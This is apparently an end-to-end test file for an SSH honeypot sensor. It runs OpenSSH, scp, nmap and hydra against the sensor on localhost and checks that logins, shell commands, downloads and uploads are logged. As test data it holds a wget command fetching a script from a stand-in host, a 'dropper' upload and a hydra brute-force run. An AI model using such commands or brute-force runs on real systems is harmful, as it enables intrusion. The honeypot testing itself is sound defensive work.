"""The SSH sensor against the real clients attackers use: OpenSSH (ssh, scp), nmap, hydra."""

from __future__ import annotations

import hashlib
import os
import re
import subprocess
from pathlib import Path

import pytest

from honeyguard.config import LoginCredential, SshSettings
from honeyguard.model import Event
from honeyguard.sensor.personas import load_personas, persona_dirs
from tests.conftest import tool
from tests.sensor.ssh_keys import fast_host_keys  # noqa: F401 - autouse fixture

pytestmark = pytest.mark.e2e

CREDS = SshSettings(accept_after_attempts=0, credentials=[LoginCredential(username="root", password="toor")])
SSH_OPTIONS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
               "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=30"]


def bodies(events: list[Event], kind: str) -> list:  # type: ignore[type-arg]
    return [e.body for e in events if e.kind == kind]


def ssh(port: int, password: str, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    command = [tool("sshpass"), "-p", password, tool("ssh"), *SSH_OPTIONS, "-p", str(port), "root@127.0.0.1", *args]
    return subprocess.run(command, input=stdin, capture_output=True, text=True, timeout=60)


def closed_sessions(sensor, count: int) -> list[Event]:  # type: ignore[no-untyped-def]
    return sensor.sink.wait_for(lambda evs: sum(e.kind == "session.closed" for e in evs) >= count, timeout=30)


def test_openssh_failed_then_accepted_login_and_exec(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["ssh"], ssh=CREDS)
    port = sensor.port("ssh")
    denied = ssh(port, "123456", "id")
    assert denied.returncode == 5  # sshpass: wrong password
    result = ssh(port, "toor", "uname -a; cat /etc/os-release | head -1; wget http://198.51.100.3/x.sh -O /tmp/x")
    assert result.returncode == 0
    assert result.stdout.startswith("Linux web01 5.15.0-105-generic ")
    assert 'PRETTY_NAME="Ubuntu 22.04.4 LTS"' in result.stdout
    events = closed_sessions(sensor, 2)
    logins = [(x.username, x.password, x.success) for x in bodies(events, "ssh.login")]
    # when sshpass gives up on the second prompt, ssh sometimes sends the empty answer it read from
    # the closed terminal before it exits: a real attempt, recorded as such, but a race to the test
    assert [login for login in logins if login != ("root", "", False)] == [("root", "123456", False),
                                                                           ("root", "toor", True)]
    assert logins.count(("root", "", False)) <= 1
    [command] = bodies(events, "ssh.command")
    assert command.channel == "exec" and command.line.startswith("uname -a;") and command.handled
    [download] = bodies(events, "download")
    assert download.url == "http://198.51.100.3/x.sh" and download.tool == "wget"
    offers = bodies(events, "ssh.client")
    assert offers and all(o.version.startswith("SSH-2.0-OpenSSH_") for o in offers)
    assert all(re.fullmatch(r"[0-9a-f]{32}", o.hassh) for o in offers)
    assert {e.src_ip for e in events} == {"127.0.0.1"} and {e.dst_port for e in events} == {port}


def test_openssh_interactive_session(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["ssh"], ssh=CREDS)
    script = "cd /tmp\necho payload > p.txt\nls -la\ncat /proc/cpuinfo | grep -c processor\nnmap\nexit\n"
    result = ssh(sensor.port("ssh"), "toor", "-tt", stdin=script)
    assert result.returncode == 0
    screen = result.stdout.replace("\r\n", "\n")
    assert "root@web01:/tmp# " in screen
    assert "p.txt" in screen and "root@web01:/tmp# 2\n" in screen  # input was echoed up front
    assert "-bash: nmap: command not found" in screen
    events = closed_sessions(sensor, 1)
    commands = [(c.line, c.handled) for c in bodies(events, "ssh.command")]
    assert commands == [("cd /tmp", True), ("echo payload > p.txt", True), ("ls -la", True),
                        ("cat /proc/cpuinfo | grep -c processor", True), ("nmap", False), ("exit", True)]
    assert all(c.channel == "shell" for c in bodies(events, "ssh.command"))


@pytest.mark.parametrize(("legacy", "via"), [(False, "sftp"), (True, "scp")])
def test_scp_upload_is_recorded_and_stored(make_sensor, tmp_path: Path, legacy: bool, via: str) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["ssh"], ssh=CREDS)
    payload = os.urandom(300_000)
    local = tmp_path / "dropper.bin"
    local.write_bytes(payload)
    command = [tool("sshpass"), "-p", "toor", tool("scp"), *(["-O"] if legacy else []), *SSH_OPTIONS,
               "-P", str(sensor.port("ssh")), str(local), "root@127.0.0.1:/tmp/"]
    result = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    events = closed_sessions(sensor, 1)
    [upload] = bodies(events, "upload")
    digest = hashlib.sha256(payload).hexdigest()
    assert (upload.filename, upload.size, upload.sha256, upload.via, upload.stored) == (
        "/tmp/dropper.bin", len(payload), digest, via, True)
    stored = sensor.sensor.ctx.data_dir / "artifacts" / digest
    assert stored.read_bytes() == payload


def test_nmap_names_the_persona(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["ssh"])
    result = subprocess.run([tool("nmap"), "-sT", "-Pn", "-sV", "-p", str(sensor.port("ssh")), "127.0.0.1"],
                            capture_output=True, text=True, timeout=180)
    assert result.returncode == 0
    assert re.search(r"open\s+ssh\s+OpenSSH 8\.9p1 Ubuntu 3ubuntu0\.10", result.stdout), result.stdout


def test_server_offer_is_the_personas(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["ssh"], personas={"ssh": "openssh-debian-12"})
    command = [tool("ssh"), "-vv", *SSH_OPTIONS, "-o", "LogLevel=DEBUG2", "-o", "BatchMode=yes",
               "-p", str(sensor.port("ssh")), "root@127.0.0.1", "true"]
    debug = subprocess.run(command, capture_output=True, text=True, timeout=60).stderr
    assert "Remote protocol version 2.0, remote software version OpenSSH_9.2p1 Debian-2+deb12u3" in debug
    proposal = debug.split("peer server KEXINIT proposal", 1)[1]
    offered = dict(re.findall(r"debug2: ([\w ]+): (.*)", proposal)[:7])
    persona = load_personas(persona_dirs(), service="ssh")["openssh-debian-12"].algorithms
    unsupported = {"sntrup761x25519-sha512@openssh.com"}  # asyncssh cannot do it, so it is not offered
    assert offered["KEX algorithms"].split(",") == [a for a in persona.kex if a not in unsupported]
    assert offered["host key algorithms"].split(",") == persona.host_keys
    assert offered["ciphers ctos"].split(",") == persona.ciphers
    assert offered["MACs ctos"].split(",") == persona.macs
    assert offered["compression ctos"].split(",") == persona.compression


def _rss_kb() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


def test_hydra_brute_force_is_recorded(make_sensor, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["ssh"], ssh=SshSettings(accept_after_attempts=0))
    words = [f"guess{i:03d}" for i in range(60)]
    wordlist = tmp_path / "words.txt"
    wordlist.write_text("\n".join(words) + "\n")
    before = _rss_kb()
    command = [tool("hydra"), "-l", "root", "-P", str(wordlist), "-t", "4", "-w", "3", "-I", "-o",
               str(tmp_path / "found.txt"), f"ssh://127.0.0.1:{sensor.port('ssh')}"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        output, _ = process.communicate(timeout=20)
    except subprocess.TimeoutExpired:
        process.kill()  # bounded in time: whatever it did by now is what we check
        output, _ = process.communicate()
    logins = bodies(sensor.sink.events(), "ssh.login")
    assert logins, output
    assert all(x.username == "root" and x.method == "password" and not x.success for x in logins)
    assert {x.password for x in logins} <= set(words)
    finished = re.search(r"\b1 of 1 target completed, 0 valid password", output)
    if finished:  # hydra ran through the list: every one of its tries reached us
        assert {x.password for x in logins} == set(words)
    assert _rss_kb() - before < 200_000  # the sensor (in this process) stays bounded
    result = ssh(sensor.port("ssh"), "anything", "true")  # and still answers
    assert result.returncode == 5
